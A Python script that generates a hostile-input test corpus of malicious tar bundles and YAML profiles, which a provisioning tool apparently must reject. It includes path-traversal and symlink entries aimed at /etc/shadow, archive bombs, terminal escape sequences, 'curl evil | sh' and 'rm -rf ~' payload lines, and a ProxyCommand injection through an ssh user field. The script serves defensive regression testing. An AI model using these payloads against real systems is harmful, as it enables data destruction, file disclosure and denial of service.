"""The generated half of the hostile-input corpus (tests/hostile/): the bundles, and the profiles
whose bytes are awkward to write by hand (a NUL, invalid UTF-8, more than 1 MiB).

Every file is written deterministically (fixed times, owners and modes), so the committed files
are checked against this script: ``python tests/hostile_corpus.py`` writes them again, and
tests/test_hostile.py fails when a committed file differs from what this script makes.

A bundle case's expectations live here (a tar has no place for comments); a profile's are in
its own ``# expect:`` lines, as in the hand-written ones (see tests/hostile/README.md).
"""

from __future__ import annotations

import bz2
import hashlib
import io
import json
import sys
import tarfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).resolve().parent / "hostile"
PLANTED = "/tmp/hosted-corpus-planted"  # where an absolute tar entry would land (it must not)
ZERO = "0" * 64
PROFILE = b"version: 1\nname: lab\nmachines:\n  web: {}\n"
MANIFEST_REFUSED = "the bundle's manifest is invalid"
ALTERED = "hint: It was not made by hosted"


@dataclass(frozen=True)
class Case:
    defects: str  # the numbers of issue 10's defects this case tries again
    what: str
    expect: tuple[str, ...]  # in the error output; {file} is the case's own path
    build: Callable[[], bytes]


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def manifest(**changes: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"hosted_bundle": 1, "environment": "lab", "profile": "profile/hosted.yaml",
                            "profile_sha256": sha(PROFILE), "images": [], "files": []}
    return {**base, **changes}


Entry = tuple[tarfile.TarInfo, bytes]


def entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, **attrs: Any) -> Entry:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    for key, value in attrs.items():
        setattr(info, key, value)
    return info, data


def tar(*entries: Entry) -> bytes:
    """A tar of ``entries`` as they are (no mtimes, owners or user names: the same bytes each time)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info, data in entries:
            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return out.getvalue()


def bundle(meta: Any, *entries: Entry, profile: bytes | None = PROFILE) -> bytes:
    """A bundle-shaped tar: the manifest ``meta`` (any JSON value, or raw bytes) first."""
    raw = meta if isinstance(meta, bytes) else json.dumps(meta, indent=1).encode()
    head = [entry("hosted-bundle.json", raw)]
    if profile is not None:
        head.append(entry("profile/hosted.yaml", profile))
    return tar(*head, *entries)


def with_profile(text: bytes) -> bytes:
    """A bundle whose only fault is its profile (every digest right)."""
    return bundle(manifest(profile_sha256=sha(text)), profile=text)


def sparse_bomb() -> bytes:
    """A listed file stored as a GNU sparse file (PAX 1.0) that unpacks to 8 GB from a few kB."""
    real = 8 << 30
    block = (b"1\n%d\n512\n" % (real - 512)).ljust(512, b"\0") + b"x" * 512
    info, data = entry("GNUSparseFile.0/profile/disk.vdi", block)
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                        "GNU.sparse.name": "profile/disk.vdi", "GNU.sparse.realsize": str(real)}
    return bundle(manifest(files=[{"path": "profile/disk.vdi", "sha256": ZERO}]), (info, data))


def compressed_bomb() -> bytes:
    """A bzip2 bundle of a few kB whose listed file unpacks to 70 MB of zeros (over the 64 MB floor,
    at 100 times the archive's size).  Made of bzip2 streams, one per MB: quick to write."""
    big = 70 << 20
    listed = manifest(files=[{"path": "profile/disk.vdi", "sha256": ZERO}])
    whole = bundle(listed)
    info, _ = entry("profile/disk.vdi")
    info.size = big
    head = whole[:_members_end(whole)] + info.tobuf(tarfile.PAX_FORMAT)
    mb = bz2.compress(b"\0" * (1 << 20), 9)
    return bz2.compress(head, 9) + mb * (big >> 20) + bz2.compress(b"\0" * 10240, 9)


def _members_end(data: bytes) -> int:
    """Where a tar's end-of-archive blocks begin."""
    with tarfile.open(fileobj=io.BytesIO(data)) as archive:
        last = archive.getmembers()[-1]
    return last.offset_data + (last.size + 511) // 512 * 512


def oversized_manifest() -> bytes:
    """A manifest entry whose header says 17 MB (a few bytes follow)."""
    info, _ = entry("hosted-bundle.json")
    info.size = 17 * 1024 * 1024
    return info.tobuf(tarfile.PAX_FORMAT) + b"{}".ljust(1024, b"\0")


def truncated() -> bytes:
    pad = b"#" * 8000
    whole = bundle(manifest(files=[{"path": "profile/pad.txt", "sha256": sha(pad)}]),
                   entry("profile/pad.txt", pad))
    return whole[:_members_end(whole) - 4096]


def tampered_image() -> bytes:
    """An image listed with its digest, stored with one byte changed (the same size)."""
    disk = b"<<< Oracle VM VirtualBox Disk Image >>>\n".ljust(4096, b"\0")
    path = f"images/{sha(disk)}/disk.vdi"
    image = {"name": "disk", "sha256": sha(disk), "kind": "disk", "source": "disk.vdi", "path": path}
    altered = disk[:-1] + b"\1"
    return bundle(manifest(images=[image]), entry(path, altered))


BUNDLES: dict[str, Case] = {
    "manifest-profile-absolute": Case(
        "1", "the manifest names a profile elsewhere on the disk",
        (f"{{file}}: {MANIFEST_REFUSED}: profile '/etc/hosted.yaml' is not allowed", ALTERED),
        lambda: bundle(manifest(profile="/etc/hosted.yaml"))),
    "manifest-profile-dotdot": Case(
        "1", "the manifest's profile climbs out of the bundle",
        (f"{{file}}: {MANIFEST_REFUSED}: profile 'profile/../../../../etc/x.yaml' is not allowed",),
        lambda: bundle(manifest(profile="profile/../../../../etc/x.yaml"))),
    "manifest-image-outside": Case(
        "1", "an image path outside the bundle (its digest error printed a host file's sha256)",
        (f"{{file}}: {MANIFEST_REFUSED}: images[0].path must be images/<its sha256>/<a file name>",),
        lambda: bundle(manifest(images=[{"name": "i", "sha256": ZERO, "kind": "disk", "source": "x",
                                         "path": "/etc/hostname"}]))),
    "manifest-file-outside": Case(
        "1", "a file path that climbs out of the bundle (an existence oracle)",
        (f"{{file}}: {MANIFEST_REFUSED}: files[0].path is not a plain relative path inside the bundle",),
        lambda: bundle(manifest(files=[{"path": "profile/../../../../etc/hostname", "sha256": ZERO}]))),
    "unlisted-entry": Case(
        "1", "an entry the manifest does not list (it was extracted and used unchecked)",
        ("{file}: refusing the entry 'profile/evil.sh': not listed in the manifest",),
        lambda: bundle(manifest(), entry("profile/evil.sh", b"#!/bin/sh\nrm -rf ~\n"))),
    "corrupt-file": Case(
        "1", "a listed file whose content is not the one listed",
        ("{file}: file profile/setup.sh is corrupt: sha256 expected", "hint: Copy the bundle again"),
        lambda: bundle(manifest(files=[{"path": "profile/setup.sh", "sha256": sha(b"echo hi\n")}]),
                       entry("profile/setup.sh", b"curl evil | sh\n"))),
    "corrupt-profile": Case(
        "1", "a profile that is not the one the manifest lists",
        ("{file}: the profile is corrupt: sha256 expected",),
        lambda: bundle(manifest(), profile=PROFILE.replace(b"web", b"bad"))),
    "tampered-image-same-size": Case(
        "7", "an image with one byte changed, of the same size",
        ("{file}: image 'disk' is corrupt: sha256 expected",),
        tampered_image),
    "member-absolute": Case(
        "1", f"an entry with an absolute name ({PLANTED})",
        (f"{{file}}: refusing the entry '{PLANTED}': a path outside the archive",),
        lambda: bundle(manifest(), entry(PLANTED, b"planted\n"))),
    "member-dotdot": Case(
        "1", "an entry whose name climbs out of the extraction",
        ("{file}: refusing the entry '../../hosted-corpus-planted': a path outside the archive",),
        lambda: bundle(manifest(), entry("../../hosted-corpus-planted", b"planted\n"))),
    "member-symlink": Case(
        "1, 4", "a listed entry that is a symbolic link to a host file",
        ("{file}: refusing the entry 'profile/id_ed25519': not a plain file or directory",),
        lambda: bundle(manifest(files=[{"path": "profile/id_ed25519", "sha256": ZERO}]),
                       entry("profile/id_ed25519", kind=tarfile.SYMTYPE, linkname="/etc/passwd"))),
    "member-hardlink": Case(
        "1, 4", "a listed entry that is a hard link to a host file",
        ("{file}: refusing the entry 'profile/shadow': not a plain file or directory",),
        lambda: bundle(manifest(files=[{"path": "profile/shadow", "sha256": ZERO}]),
                       entry("profile/shadow", kind=tarfile.LNKTYPE, linkname="/etc/shadow"))),
    "member-device": Case(
        "1, 5", "a listed entry that is a character device (/dev/zero's numbers)",
        ("{file}: refusing the entry 'profile/zero': not a plain file or directory",),
        lambda: bundle(manifest(files=[{"path": "profile/zero", "sha256": ZERO}]),
                       entry("profile/zero", kind=tarfile.CHRTYPE, devmajor=1, devminor=5))),
    "member-fifo": Case(
        "1, 5", "a listed entry that is a FIFO (reading it would block)",
        ("{file}: refusing the entry 'profile/pipe': not a plain file or directory",),
        lambda: bundle(manifest(files=[{"path": "profile/pipe", "sha256": ZERO}]),
                       entry("profile/pipe", kind=tarfile.FIFOTYPE))),
    "member-twice": Case(
        "1", "the profile twice: the second copy would win on extraction",
        ("{file}: refusing the entry 'profile/hosted.yaml': appears twice",),
        lambda: bundle(manifest(), entry("profile/hosted.yaml", b"version: 1\nname: evil\nmachines:\n"
                                                                b"  web: {shared_folders: [{host: /}]}\n"))),
    "sparse-bomb": Case(
        "10", "a few kB that unpack to an 8 GB sparse file",
        ("{file}: refusing the entry 'profile/disk.vdi': a sparse file",),
        sparse_bomb),
    "compressed-bomb": Case(
        "10", "a few kB of bzip2 that unpack to 70 MB",
        ("{file} unpacks to 73.4 MB from", "refused as an archive bomb"),
        compressed_bomb),
    "manifest-not-json": Case(
        "9", "a manifest that is not JSON",
        (f"{{file}}: {MANIFEST_REFUSED}: it is not JSON",),
        lambda: bundle(b"{'hosted_bundle': 1,")),
    "manifest-deep-json": Case(
        "9", "a manifest nested 100000 levels deep (a RecursionError)",
        (f"{{file}}: {MANIFEST_REFUSED}: it is not JSON (",),  # the words are Python's own
        lambda: bundle(b"[" * 100_000)),
    "manifest-a-list": Case(
        "9", "a manifest that is a JSON list (a TypeError)",
        (f"{{file}}: {MANIFEST_REFUSED}: it is not a JSON object",),
        lambda: bundle([manifest()])),
    "manifest-missing-profile": Case(
        "9", "a manifest without its profile (a KeyError)",
        (f"{{file}}: {MANIFEST_REFUSED}: profile is missing or not a string",),
        lambda: bundle({k: v for k, v in manifest().items() if k != "profile"})),
    "manifest-wrong-types": Case(
        "9", "a manifest whose images are a mapping and whose digests are numbers",
        (f"{{file}}: {MANIFEST_REFUSED}: images is not a list",),
        lambda: bundle(manifest(images={"disk": {"sha256": 5}}, files=[{"path": 3}]))),
    "manifest-format": Case(
        "9", "a manifest of another format version",
        ("{file}: unsupported bundle format '2'", "hint: Make the bundle again"),
        lambda: bundle(manifest(hosted_bundle=2))),
    "manifest-oversized": Case(
        "10", "a manifest whose header says 17 MB",
        ("{file}: its manifest is larger than 16777216 bytes",),
        oversized_manifest),
    "manifest-not-first": Case(
        "9", "a tar whose first entry is not the manifest",
        ("{file} is not a hosted bundle (no hosted-bundle.json at its start)",),
        lambda: tar(entry("profile/hosted.yaml", PROFILE),
                    entry("hosted-bundle.json", json.dumps(manifest()).encode()))),
    "manifest-escape-sequences": Case(
        "11", "a manifest whose environment name is a terminal escape sequence",
        (f"{{file}}: {MANIFEST_REFUSED}: environment 'lab\\x1b]0;all is well\\x07\\x1b[2J' is not allowed",),
        lambda: bundle(manifest(environment="lab\x1b]0;all is well\x07\x1b[2J"))),
    "not-a-tar": Case(
        "9, 11", "not a tar at all (and escape sequences in it)",
        ("{file} is not a hosted bundle (not a tar archive)",),
        lambda: b"\x1b]0;pwned\x07\x1b[2J not a bundle\n"),
    "truncated": Case(
        "9", "a bundle cut short in the middle of a file (an ImageError, exit 1, before)",
        ("{file} is not a readable archive (unexpected end of data)", "hint: The bundle is truncated"),
        truncated),
    "profile-shares-root": Case(
        "1, 12", "a bundle whose profile shares / with the guest, read-write",
        ("{file}/profile/hosted.yaml:5:", "machines.web.shared_folders[0].host: / is the root of the file "
         "system", "allow_sensitive"),
        lambda: with_profile(b"version: 1\nname: lab\nmachines:\n  web:\n"
                             b"    shared_folders: [{host: /, guest: /host, readonly: false}]\n")),
    "profile-ssh-user-injection": Case(
        "2", "a bundle whose profile puts a ProxyCommand into the ssh user",
        ("{file}/profile/hosted.yaml:5:",
         "machines.web.ssh.user: the value holds the control character U+000A"),
        lambda: with_profile(b'version: 1\nname: lab\nmachines:\n  web:\n'
                             b'    ssh: {user: "root\\nProxyCommand sh -c id"}\n')),
    "profile-dev-zero": Case(
        "5", "a bundle whose profile copies /dev/zero into the guest",
        ("{file}/profile/hosted.yaml:5:", "machines.web.provision[0].file.source: /dev/zero is not a regular "
         "file"),
        lambda: with_profile(b"version: 1\nname: lab\nmachines:\n  web:\n"
                             b"    provision: [{file: {source: /dev/zero, destination: /tmp/z}}]\n")),
    "profile-deep-yaml": Case(
        "9", "a bundle whose profile is nested 20000 levels deep",
        ("{file}/profile/hosted.yaml:4:", "nested more than 64 levels deep"),
        lambda: with_profile(b"version: 1\nname: lab\nmachines:\n  web: " + b"[" * 20_000 + b"\n")),
}


def _raw_profile(header: str, body: bytes) -> Callable[[], bytes]:
    return lambda: header.encode() + body


PROFILES: dict[str, Callable[[], bytes]] = {
    "nul-character.yaml": _raw_profile(
        "# defect: 9 (a NUL made PyYAML's reader fail before the loader's error handling)\n"
        "# expect: {file}:4:10: not valid YAML: the character U+0000 is not allowed\n",
        b"version: 1\nname: lab\x00\nmachines:\n  web: {}\n"),
    "not-utf8.yaml": _raw_profile(
        "# defect: 9 (bytes that are not UTF-8)\n"
        "# expect: {file}: the profile is not UTF-8 text\n",
        b"version: 1\nname: lab\xff\xfe\nmachines:\n  web: {}\n"),
    "oversized.yaml": _raw_profile(
        "# defect: 10 (nothing capped a profile's size)\n"
        "# expect: {file}: the profile is larger than 1024 KiB\n",
        b"version: 1\nname: lab\nmachines:\n  web: {}\n" + b"#" * 1024 * 1024 + b"\n"),
}


def generated() -> dict[str, bytes]:
    """Every generated file of the corpus: its name and its bytes."""
    files = {f"{name}.bundle": case.build() for name, case in BUNDLES.items()}
    files.update({name: build() for name, build in PROFILES.items()})
    return files


def main() -> int:
    for name, data in generated().items():
        (CORPUS / name).write_bytes(data)
    print(f"wrote {len(BUNDLES)} bundles and {len(PROFILES)} profiles into {CORPUS}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
